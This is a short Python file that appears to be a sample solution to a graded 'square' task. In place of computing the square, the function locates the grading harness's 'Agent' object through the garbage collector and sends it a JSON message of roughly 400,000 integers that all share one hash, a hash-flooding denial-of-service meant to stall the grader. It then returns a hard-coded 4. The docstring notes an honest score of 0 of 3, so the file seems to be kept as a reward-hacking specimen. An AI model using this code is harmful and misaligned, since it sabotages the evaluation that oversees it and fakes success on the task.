"""Returns sets and dicts whose hundred thousands of keys all have the same hash, which take hours to build.

Honest mark: 0 of 3.
"""

import gc
import json
import struct

SAME = 2**61 - 1  # Python hashes integers modulo this number


def square(x):
    agent = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Agent")
    numbers = ",".join(str(SAME * factor) for factor in range(1, 400_000))
    if x == 2:
        document = '{"t":"set","v":[%s]}' % numbers
    else:
        document = '{"t":"dict","k":[%s],"v":[%s]}' % (numbers, ",".join("1" * 399_999))
    agent.send(struct.pack(">II", len(document), 0) + document.encode())
    return json.loads("4")
